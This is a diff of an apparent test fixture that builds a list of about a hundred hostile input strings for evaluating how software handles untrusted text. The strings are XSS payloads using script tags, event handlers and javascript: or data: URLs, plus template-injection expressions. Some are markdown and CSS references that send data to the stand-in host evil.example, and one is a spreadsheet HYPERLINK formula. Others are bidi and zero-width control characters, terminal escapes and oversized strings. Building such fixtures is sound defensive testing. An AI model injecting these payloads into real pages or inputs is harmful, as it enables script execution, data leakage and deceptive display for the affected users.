@@ -1,22 +1,78 @@
 // An evaluation whose every text tries something: markup, scripts, addresses, and characters that hide or turn.
 
-const PAYLOADS = [
-  "<script>globalThis.pwned = 1</script>",
-  "<img src=x onerror='globalThis.pwned=1'>",
-  "<svg onload=globalThis.pwned=1><a xlink:href='javascript:pwned=1'>x</a></svg>",
-  '"><iframe src="javascript:globalThis.pwned=1"></iframe>',
-  "javascript:globalThis.pwned=1",
-  "![leak](https://evil.example/leak.png?data=secret)",
-  "[click](https://evil.example/)",
-  "<style>*{background:url(https://evil.example/css)}</style>",
-  "<link rel=stylesheet href=https://evil.example/a.css>",
-  "{{constructor.constructor('globalThis.pwned=1')()}}",
+// What each would do if it were taken for more than text: mark the page as taken over.
+const ACT = "globalThis.pwned=1";
+const HOST = "https://evil.example";
+
+const EVENTS = ["onload", "onerror", "onclick", "onfocus", "onanimationstart", "ontoggle", "onpointerover"];
+const ELEMENTS = [
+  "img src=x",
+  "svg",
+  "body",
+  "details open",
+  "input autofocus",
+  "video src=x",
+  "marquee",
+  "object",
+];
+const ADDRESSES = [
+  `javascript:${ACT}`,
+  `JaVaScRiPt:${ACT}`,
+  `java\tscript:${ACT}`,
+  ` javascript:${ACT}`,
+  `data:text/html,<script>${ACT}</script>`,
+  `vbscript:${ACT}`,
+  `blob:${HOST}/1`,
+  `//evil.example/a`,
+];
+
+/** A hundred texts. */
+export const PAYLOADS: readonly string[] = [
+  ...[ACT, `alert(1);${ACT}`].map((code) => `<script>${code}</script>`),
+  `<script src=${HOST}/a.js></script>`,
+  `</script><script>${ACT}</script>`,
+  `--><script>${ACT}</script><!--`,
+  `]]><script>${ACT}</script>`,
+  `"><script>${ACT}</script>`,
+  `'><img src=x onerror='${ACT}'>`,
+  ...EVENTS.flatMap((event, at) =>
+    ELEMENTS.slice(0, 5).map((element) => `<${element} ${event}=${ACT} id=x${at}>`),
+  ),
+  ...ADDRESSES.flatMap((address) => [address, `[click](${address})`, `<a href="${address}">x</a>`]),
+  `<iframe src="javascript:${ACT}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
+  `<object data=${HOST}/a.swf></object>`,
+  `<embed src=${HOST}/a>`,
+  `<base href=${HOST}/>`,
+  `<meta http-equiv=refresh content="0;url=${HOST}">`,
+  `<link rel=stylesheet href=${HOST}/a.css>`,
+  `<style>*{background:url(${HOST}/css)}</style>`,
+  `<style>@import '${HOST}/a.css';</style>`,
+  `<div style="background:url(${HOST}/a)">x</div>`,
+  `<form action=${HOST}><button>Go</button></form>`,
+  `<math><mi xlink:href="javascript:${ACT}">x</mi></math>`,
+  `<svg><use href="${HOST}/a.svg#x"/></svg>`,
+  `<template><script>${ACT}</script></template>`,
+  `![leak](${HOST}/leak.png?data=secret)`,
+  `[ref]: ${HOST}/a "title"`,
+  `<img srcset="${HOST}/a 1x">`,
+  `{{constructor.constructor('${ACT}')()}}`,
   // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what the payload is
   "${globalThis.pwned=1}",
+  `#{${ACT}}`,
+  `<%= ${ACT} %>`,
   "pay \u202Enothing\u202C \u200Bnow",
+  "\u2066isolated\u2069 \uFEFF\u00AD",
+  "\u0000\u0007\u001B[31mred\u001B[0m",
   "__proto__",
-  "a".repeat(100_000),
-];
+  "constructor",
+  "toString",
+  "a".repeat(1_000_000),
+  `${"<b>".repeat(20_000)}`,
+  "\u0301".repeat(5000),
+  "😀".repeat(5000),
+  '=HYPERLINK("https://evil.example")',
+].slice(0, 100);
 
 /** Its lines, as an import takes them. */
 export function hostileLines(): string {
